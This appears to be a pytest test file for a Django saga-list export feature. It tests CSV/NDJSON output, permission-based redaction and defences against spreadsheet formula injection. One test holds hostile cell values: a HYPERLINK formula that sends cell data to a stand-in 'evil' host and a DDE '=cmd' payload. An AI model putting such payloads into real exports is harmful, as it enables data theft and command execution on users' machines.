"""Export of the list: complete, in bounded memory, without formulas, and only with permission."""

import csv
import json
from collections.abc import Iterator
from io import StringIO
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from sagas.models import Saga
from sagas.operators import operations
from sagas.operators.queries import export
from sagas.operators.queries.export import COLUMNS, guard_cell, write_csv
from sagas.operators.visibility import Visibility

from . import trips
from .pages import LIST, REASON, LogIn

pytestmark = pytest.mark.django_db

SECRET = "The airline is closed."


def read_text(response: Any) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def read_rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(read_text(response), newline="")))


def url_of(form: str) -> str:
    return f"{LIST}export/{form}/"


def test_table_holds_what_the_list_shows(log_in: LogIn) -> None:
    saga, done = trips.make_compensation_failing(), trips.make_completed()

    response = log_in("supervisor").get(url_of("csv"))

    rows = read_rows(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="sagas-')
    assert "no-store" in response["Cache-Control"]
    assert [row["id"] for row in rows] == [str(done.pk), str(saga.pk)]
    last = rows[1]
    assert tuple(last) == COLUMNS
    assert (last["definition"], last["version"], last["state"]) == ("trip", "3", "compensating")
    assert (last["display_state"], last["needs"]) == ("compensation_failing", "compensation_failing")
    assert (last["step"], last["attempts"], last["last_error"]) == ("book_flight", "10", f"RuntimeError: {SECRET}")
    assert last["keys"] == f"order={saga.keys.get().value}"
    assert (rows[0]["display_state"], float(rows[0]["seconds"]) > 0) == ("completed", True)


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_export_respects_filters_and_search(log_in: LogIn, form: str) -> None:
    trips.make_completed()
    paused = trips.make_paused()
    client = log_in("viewer")

    for query in ({"display": "held"}, {"q": paused.keys.get().value}, {"operated": "yes", "by": "longest"}):
        lines = read_text(client.get(url_of(form), query)).splitlines()
        found = lines[1:] if form == "csv" else lines
        assert len(found) == 1, query
        assert str(paused.pk) in found[0]


@pytest.mark.parametrize(
    "query", [{"display": "nowhere"}, {"input__contains": "x"}, {"group": "x"}, {"e": "1", "z": ""}]
)
def test_unknown_filter_exports_nothing(log_in: LogIn, query: dict[str, str]) -> None:
    trips.start()

    response = log_in("admin").get(url_of("csv"), query)

    assert response.status_code == 400
    assert not response.streaming


def test_documents_are_complete_with_the_payload_permission(log_in: LogIn) -> None:
    saga = trips.make_compensation_failing()

    [line] = read_text(log_in("supervisor").get(url_of("ndjson"))).splitlines()

    document = json.loads(line)
    assert (document["id"], document["state"]) == (str(saga.pk), "compensating")
    assert document["input"] == {"order_number": saga.keys.get().value}
    assert SECRET in line
    assert len(document["history"]) == Saga.objects.get(pk=saga.pk).history_count


@pytest.mark.parametrize("path", ["export/csv/", "export/ndjson/", "bundle"])
def test_documents_hold_no_payloads_without_the_permission(log_in: LogIn, path: str) -> None:
    saga = trips.make_compensation_failing()
    abandoned = trips.make_abandoned()
    steps = Saga.objects.get(pk=saga.pk).steps
    steps.filter(name="book_hotel").update(result={"card": "ends in 4242"})
    Saga.objects.filter(pk=abandoned.pk).update(
        effects_left=[{"step": "pay", "key": "k", "result": {"card": "ends in 4242"}}]
    )
    client = log_in("viewer")
    for pk in (saga.pk, abandoned.pk):
        response = client.get(f"{LIST}{pk}/bundle/" if path == "bundle" else f"{LIST}{path}")
        text = read_text(response) if response.streaming else response.content.decode()

        for hidden in (SECRET, "ends in 4242", "order_number", "Traceback", '"traceback"', '"input"', '"result":{'):
            assert hidden not in text, hidden
    assert "RuntimeError" in read_text(client.get(url_of("ndjson")))


def test_documents_hold_error_texts_alone_with_their_permission(log_in: LogIn) -> None:
    trips.make_compensation_failing()

    [line] = read_text(log_in("operator").get(url_of("ndjson"))).splitlines()

    document = json.loads(line)
    assert (document["has_payloads"], document["has_errors"]) == (False, True)
    assert document["cause"]["message"] == "No money."
    assert SECRET in document["steps"][1]["last_error"]
    assert any(SECRET in attempt["message"] for attempt in document["steps"][1]["attempts"])
    assert not any(hidden in line for hidden in ("order_number", "Traceback", '"traceback"', '"input"', '"result":{'))
    assert SECRET in read_text(log_in("operator").get(url_of("csv")))


def test_bundle_holds_everything_of_one_saga(log_in: LogIn) -> None:
    saga = trips.make_paused()
    client = log_in("supervisor")

    response = client.get(f"{LIST}{saga.pk}/bundle/")

    document = json.loads(response.content)
    assert response["Content-Disposition"] == f'attachment; filename="saga-{saga.pk}.json"'
    assert [entry["what"] for entry in document["history"]][-1] == "operator_acted"
    stripped = json.loads(log_in("viewer").get(f"{LIST}{saga.pk}/bundle/").content)
    assert stripped["has_payloads"] is False
    assert stripped["history"][-1] == document["history"][-1]
    assert client.get(f"{LIST}{saga.pk}/bundle/".replace(str(saga.pk)[:4], "0000")).status_code == 404


def test_who_may_export(log_in: LogIn) -> None:
    saga = trips.start()
    for url in (url_of("csv"), url_of("ndjson"), f"{LIST}{saga.pk}/bundle/"):
        for name, status in (("viewer", 200), ("operator", 200), ("staff", 403), ("anonymous", 302)):
            assert log_in(name).get(url).status_code == status, (name, url)
        assert log_in("admin").post(url).status_code == 405
    assert log_in("admin").get(url_of("xls")).status_code == 404


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"), ("+49", "'+49"), ("-1", "'-1"), ("@x", "'@x"), ("\t1", "'\\t1"), ("\r1", "'\\r1"),
        ("\n=1", "'\\n=1"), ("  =1", "'  =1"), ("\u3000=1", "'\u3000=1"), ("\ufeff=1", "'\\ufeff=1"),
        ("\u200b+1", "'\\u200b+1"), ("\uff1d1", "'\uff1d1"), ("\ufe66x", "'\ufe66x"), ("\u22121", "'\u22121"),
        ("a;=HYPERLINK(0)", "a;'=HYPERLINK(0)"), ("a,@x", "a,'@x"), ("a\t=1", "a\\t'=1"), ("a; \t-1", "a; \\t'-1"),
        ("a|=1", "a|'=1"), ("a\r\n=1", "a\\r\\n=1"), ('a";=1', 'a";\'=1'), ("a=1", "a=1"), ("a-b; c", "a-b; c"),
        ("", ""), (-1, -1), (1.5, 1.5), ("\x1b[2J\u202e", "\\x1b[2J\\u202e"), ("\ud800", "\\ud800"),
    ],
)  # fmt: skip
def test_no_cell_is_a_formula_or_invisible(cell: Any, guarded: Any) -> None:
    assert guard_cell(cell) == guarded


def test_every_cell_is_quoted() -> None:
    trips.make_compensation_failing()
    head, line = write_csv(Saga.objects.all(), Visibility.PAYLOADS)

    cells = next(csv.reader([line]))
    assert head == ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"
    assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in cells) + "\r\n"


def test_hostile_keys_stay_one_cell(log_in: LogIn) -> None:
    hostile = '=HYPERLINK("http://evil/"&A1,"x")\r\n"quoted", \u2603'
    saga = trips.start(order=hostile)
    Saga.objects.filter(pk=saga.pk).update(definition='=cmd|"/c calc"!A1')

    [row] = read_rows(log_in("admin").get(url_of("csv")))

    assert row["definition"] == '\'=cmd|"/c calc"!A1'
    assert row["keys"] == 'order==HYPERLINK("http://evil/"&A1,"x")\\r\\n"quoted", \u2603'


def test_empty_list_gives_a_header_only(log_in: LogIn) -> None:
    client = log_in("viewer")

    assert next(csv.reader([read_text(client.get(url_of("csv")))])) == list(COLUMNS)
    assert read_text(client.get(url_of("ndjson"))) == ""


def test_pages_are_read_on_demand(log_in: LogIn, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 2)
    made = [trips.start().pk for _ in range(5)]
    Saga.objects.filter(pk__in=made[:3]).update(created_at=Saga.objects.get(pk=made[0]).created_at)
    expected = [str(pk) for pk in Saga.objects.order_by("-created_at", "-pk").values_list("pk", flat=True)]
    lines: Iterator[str] = write_csv(Saga.objects.all(), Visibility.STATES)
    next(lines)

    with CaptureQueriesContext(connection) as first:
        found = [next(lines), next(lines)]
    with CaptureQueriesContext(connection) as others:
        found += list(lines)

    assert [line.split(",")[0].strip('"') for line in found] == expected
    assert len(first) == 4
    assert len(others) == 8
    assert all("LIMIT 2" in query["sql"] for query in first.captured_queries[:1])


def test_operators_reasons_need_no_payload_permission(log_in: LogIn) -> None:
    saga = trips.start()
    operations.cancel(saga.pk, actor=trips.BOSS, reason=REASON)

    assert REASON in read_text(log_in("viewer").get(url_of("ndjson")))
